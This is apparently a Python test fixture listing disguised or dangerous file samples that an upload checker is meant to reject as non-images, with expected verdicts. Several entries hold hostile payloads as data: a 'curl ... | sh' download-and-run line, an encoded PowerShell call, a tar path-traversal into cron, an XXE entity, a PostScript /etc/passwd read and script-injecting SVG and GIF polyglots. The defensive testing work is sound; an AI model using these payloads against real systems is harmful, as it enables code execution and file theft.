"""What is sent under the name of a picture, and is none."""

import io
import struct
import tarfile
import zipfile
from collections.abc import Mapping

from tests.support.files import phone_files
from tests.support.files.making import archive


def _office(*, macros: bool) -> bytes:
    """A document of an office program, with or without a program in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as office:
        office.writestr("[Content_Types].xml", "<Types/>")
        office.writestr("word/document.xml", "<w:document/>")
        if macros:
            office.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
    return buffer.getvalue()


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tape:
        tape.addfile(tarfile.TarInfo("../../etc/cron.d/a"))
    return buffer.getvalue()


_LINK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
_PROGRAM = b"MZ".ljust(60, b"\x00") + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200

HOSTILE: Mapping[str, bytes] = {
    "a program for Windows": _PROGRAM,
    "a program for Linux": b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
    "a program for Macs": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
    "a program for Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x3d" + b"\x00" * 60,
    "a shell script": b"#!/bin/sh\ncurl https://example.org | sh\n",
    "a script of a desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "a script for Windows": b'CreateObject("WScript.Shell").Run "cmd"\r\n',
    "a script for terminals of Windows": b"@echo off\r\npowershell -enc AAAA\r\n",
    "a shortcut of Windows": _LINK + b"\x00" * 56,
    "a shortcut to a share": b"[InternetShortcut]\r\nURL=file://host.example.org/share/a.exe\r\n",
    "keys for the registry": b"Windows Registry Editor Version 5.00\r\n",
    "an archive": archive(b"a program"),
    "an archive that unpacks to far more": archive(b"\x00" * 20_000_000),
    "an archive in 7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24,
    "an archive in RAR": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24,
    "an archive in gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 20,
    "an archive for Windows": b"MSCF" + b"\x00" * 40,
    "an archive for tapes": _tar(),
    "an image of a disc": b"\x00" * 32_769 + b"CD001\x01\x00",
    "an office document": _office(macros=False),
    "an office document with a program": _office(macros=True),
    "an old office document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "rich text with an object": b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01}}}",
    "help with a program": b"ITSF\x03\x00\x00\x00" + b"\x00" * 60,
    "a vector picture with a script": b"<svg onload='alert(1)'/>",
    "a page of external entities": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM '/'>]>",
    "a moving picture with a script": b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1);//",
    "a moving picture that is an archive": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + archive(b"a"),
    "a film of old players": b"FWS\x09" + b"\x00" * 40,
    "a list of films elsewhere": b"#EXTM3U\nhttps://example.org/a.ts\n",
    "a metafile": b"\xd7\xcd\xc6\x9a" + b"\x00" * 40,
    "a font": b"\x00\x01\x00\x00\x00\x0a\x00\x80" + b"\x00" * 60,
    "data of forms": b"%FDF-1.2\n1 0 obj << /FDF << /JavaScript << /After (1) >> >> >> endobj\n",
    "a program for printers": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "a document behind a program": _PROGRAM + b"%PDF-1.7\n",
    "a photograph behind a page": b"<html><script>1</script>" + b"\xff\xd8\xff\xe0",
    "nothing": b"",
    "a mail of a page": phone_files.mail("text/html", "<script>1</script>"),
    "a mail with a program": phone_files.mixed_mail(),
    "a mail with a mail": phone_files.mail("message/rfc822", "To: a\r\n\r\nb"),
    "a mail with a program in its text": phone_files.mail(
        body="begin 644 a.exe\r\n#1234\r\n`\r\nend"
    ),
    "a mail that is cut off": phone_files.mixed_mail()[:-9],
    "a mail of Outlook": phone_files.msg(),
    "saved pages": phone_files.wacz(),
    "saved pages with a program": phone_files.wacz("datapackage.json", "run.exe"),
    "a saved page": phone_files.PAGE,
    "a saved page that is an archive": phone_files.PAGE + archive(b"a"),
}

VERDICTS = {
    "nothing": "empty",
    "a mail that is cut off": "unreadable",
    **dict.fromkeys(
        [
            "a photograph behind a page",
            "a mail of a page",
            "a mail with a program",
            "a mail with a mail",
            "a mail with a program in its text",
            "a mail of Outlook",
            "saved pages",
            "a saved page",
            "a saved page that is an archive",
        ],
        "active",
    ),
}
"""Where it is not that its type is not taken."""
